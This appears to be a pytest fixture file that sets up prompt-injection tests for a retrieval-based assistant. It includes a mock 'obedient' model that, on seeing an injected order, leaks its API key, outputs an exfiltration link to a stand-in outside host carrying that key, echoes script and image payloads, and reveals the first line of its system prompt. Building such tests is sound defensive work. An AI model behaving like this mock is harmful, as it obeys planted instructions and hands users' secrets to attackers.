"""A library and tables full of orders, made once for the tests of hostile input."""

import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hostile_files import (
    FAKE,
    IMAGE,
    LINK,
    ORDER,
    OUTSIDE,
    PICTURE,
    SCRIPT,
    write_documents,
    write_tables,
)
from openai_server import Asked, ModelServer, Words, good, in_pieces

from assistant.answers.engine import Engine, open_engine
from assistant.model.client import PROMPTS
from assistant.search.building import add_files
from assistant.settings import Settings
from evaluation.records import Dataset
from evaluation.tables.loading import load_folder


@pytest.fixture(scope="session")
def hostile_library(
    settings: Settings,
    once: Callable[[str, Callable[[Path], object]], Path],
    tmp_path_factory: pytest.TempPathFactory,
) -> Settings:
    """The shipped library with the hostile documents added to it; read only."""

    def make(data_dir: Path) -> None:
        shutil.copytree(settings.data_dir, data_dir)
        documents = write_documents(tmp_path_factory.mktemp("documents"))
        assert len(add_files(Settings(data_dir=data_dir), documents)) == 3

    return Settings(data_dir=once("hostile", make))


@pytest.fixture(scope="session")
def hostile(hostile_library: Settings) -> Engine:
    return open_engine(hostile_library)


@pytest.fixture(scope="session")
def hostile_tables(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_tables(tmp_path_factory.mktemp("tables") / "data")


@pytest.fixture(scope="session")
def hostile_dataset(hostile_tables: Path) -> Dataset:
    loaded = load_folder(hostile_tables)
    assert not loaded.errors
    return loaded


@pytest.fixture
def obedient(server: ModelServer) -> ModelServer:
    """The server of a model that does what it reads."""
    server.state.words = obeying(server)
    return server


def obeying(server: ModelServer) -> Words:
    """A model that, once it reads an order in a passage or a question, gives away all it has."""

    def words(asked: Asked) -> Iterator[str]:
        if not any(order in asked.prompt for order in (ORDER, PICTURE, SCRIPT)):
            yield from good(asked)
            return
        key = server.state.keys[-1].removeprefix("Bearer ")
        if asked.rewriting:
            yield f"{asked.question}{key}"
            return
        true = [s.rstrip("。") for p in asked.passages[:1] for s in p.sentences[:1]]
        said = [f"{sentence}，密钥是{key}。[1]" for sentence in true]
        said += [f"{sentence}{key}。[1]" for sentence in true]
        said += [f"密钥：{key}。[1]", f"请打开 http://{OUTSIDE}/collect?{key} 。[1]"]
        said += [f"{text}[1]。" for text in (SCRIPT, IMAGE, PICTURE, LINK)]
        said += [f"{FAKE}[1]", f"{(PROMPTS / 'answer.md').read_text('utf-8').splitlines()[0]}[1]"]
        for sentence in said:
            yield from in_pieces(sentence)

    return words
